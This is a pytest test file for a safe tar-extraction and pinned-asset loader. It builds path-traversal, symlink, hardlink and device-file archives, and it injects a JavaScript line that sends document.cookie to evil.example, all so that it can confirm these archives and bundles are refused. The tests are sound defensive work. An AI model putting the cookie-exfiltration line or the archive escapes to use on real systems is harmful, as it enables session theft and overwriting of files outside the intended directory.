"""Unpacking archives nobody vouches for: nothing may land outside the target, whatever the Python version
(the venv's 3.12.1 tarfile "data" filter is bypassable, CVE-2025-4517), and a bundle whose files are not the
pinned releases byte for byte is refused before anything is written."""

from __future__ import annotations

import io
import tarfile

import pytest

from spsim.experiments.cli import commands as cli

from spsim.experiments.viz import asset_pins
from spsim.experiments.viz import assets as viz_assets
from spsim.experiments.viz.safe_extract import UnsafeArchive, extract
from tests.test_viz_assets import registry  # noqa: F401  (the fake npm registry fixture)


def _tar(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> io.BytesIO:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    buffer.seek(0)
    return buffer


def _file(name: str, data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def _link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


def _device(name: str) -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
    return info, None


def _attacks(outside):
    """Each a list of members that, extracted naively, writes to `outside` (or makes a special file)."""
    return {
        "dot-dot": [_file("pkg/ok.js"), _file("pkg/../../evil")],
        "absolute": [_file(str(outside / "evil"))],
        "symlink escaping": [_link("pkg/out", str(outside), tarfile.SYMTYPE), _file("pkg/out/evil")],
        "relative symlink": [_link("pkg/out", "../..", tarfile.SYMTYPE), _file("pkg/out/evil")],
        "hardlink": [_link("pkg/passwd", str(outside / "victim"), tarfile.LNKTYPE)],
        "device": [_device("pkg/null")],
    }


@pytest.mark.parametrize("attack", ["dot-dot", "absolute", "symlink escaping", "relative symlink", "hardlink", "device"])
def test_a_hostile_archive_is_refused_and_nothing_is_written(tmp_path, attack):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("precious")
    target = tmp_path / "deep" / "er" / "target"
    target.parent.mkdir(parents=True)
    with tarfile.open(fileobj=_tar(_attacks(outside)[attack]), mode="r:gz") as archive:
        with pytest.raises(UnsafeArchive):
            extract(archive, target)
    assert not target.exists(), "refused before the target was even created"
    assert sorted(p.name for p in outside.iterdir()) == ["victim"]
    assert (outside / "victim").read_text() == "precious"
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["deep", "er", "outside", "victim"]


def test_plain_files_and_folders_are_extracted_without_their_permission_bits(tmp_path):
    setuid = tarfile.TarInfo("package/bin/tool")
    setuid.mode = 0o4777
    folder = tarfile.TarInfo("package/empty")
    folder.type = tarfile.DIRTYPE
    with tarfile.open(fileobj=_tar([(setuid, b"#!"), (folder, None), _file("package/a/b.js", b"b")]), mode="r:gz") as t:
        written = extract(t, tmp_path / "t", strip=1)
    assert sorted(map(str, written)) == ["a/b.js", "bin/tool"]
    assert (tmp_path / "t" / "a" / "b.js").read_bytes() == b"b" and (tmp_path / "t" / "empty").is_dir()
    assert (tmp_path / "t" / "bin" / "tool").stat().st_mode & 0o7777 == 0o644


def _offline_bundle(tmp_path):
    online = tmp_path / "online"
    viz_assets.ensure(online, echo=lambda _: None)
    path = tmp_path / "assets.tar.gz"
    viz_assets.bundle(path, online)
    return path


def _rewrite(bundle, change) -> None:
    """Rewrite a bundle member by member; change(info, data) returns the members to write instead."""
    with tarfile.open(bundle, "r:gz") as archive:
        members = [(info, archive.extractfile(info).read() if info.isfile() else None) for info in archive]
    out = []
    for info, data in members:
        out += change(info, data)
    bundle.write_bytes(_tar(out).getvalue())


def _refused(tmp_path, monkeypatch, capsys, bundle) -> str:
    cache = tmp_path / "cache"
    monkeypatch.setattr(viz_assets, "cache_dir", lambda: cache)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    assert cli.main(["viz-assets", "--from", str(bundle)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"spsim viz-assets: --from {bundle}: "), err
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before, "nothing written, not even the cache folder"
    return err


def test_a_bundle_whose_javascript_was_changed_is_refused(tmp_path, registry, monkeypatch, capsys):  # noqa: F811
    bundle = _offline_bundle(tmp_path)

    def tamper(info, data):
        if info.name == "vega@5/dist/index.js":
            return [(info, data + b"\nfetch('https://evil.example/?' + document.cookie)")]
        return [(info, data)]

    _rewrite(bundle, tamper)
    assert "vega@5/dist/index.js: differs from the pinned sha512" in _refused(tmp_path, monkeypatch, capsys, bundle)


def test_a_bundle_with_an_extra_script_is_refused(tmp_path, registry, monkeypatch, capsys):  # noqa: F811
    bundle = _offline_bundle(tmp_path)
    _rewrite(bundle, lambda info, data: [(info, data)] + (
        [_file("vega@5/dist/extra.js", b"alert(1)")] if info.name == "vega@5/dist/index.js" else []))
    assert "not a file of the pinned release" in _refused(tmp_path, monkeypatch, capsys, bundle)


@pytest.mark.parametrize("attack", ["dot-dot", "absolute", "symlink escaping", "hardlink", "device"])
def test_a_hostile_bundle_is_refused_in_one_line_with_exit_code_2(tmp_path, registry, monkeypatch, capsys,  # noqa: F811
                                                                   attack):
    bundle = _offline_bundle(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("precious")
    hostile = _attacks(outside)[attack]
    _rewrite(bundle, lambda info, data: [(info, data)] + (hostile if info.name == "vega@5" else []))
    assert "unsafe bundle" in _refused(tmp_path, monkeypatch, capsys, bundle)
    assert (outside / "victim").read_text() == "precious"


def test_garbage_is_not_a_bundle(tmp_path, monkeypatch, capsys):
    garbage = tmp_path / "assets.tar.gz"
    garbage.write_bytes(b"\x1f\x8b" + b"not really gzip" * 10)
    assert "not a readable bundle" in _refused(tmp_path, monkeypatch, capsys, garbage)


def test_the_pinned_hashes_cover_every_package_of_the_page():
    pins = asset_pins.pinned()
    for spec in viz_assets.PACKAGES:
        files = pins[spec]["files"]
        assert "package.json" in files and all(len(h) == 128 for h in files.values())
        assert pins[spec]["integrity"].startswith("sha512-")
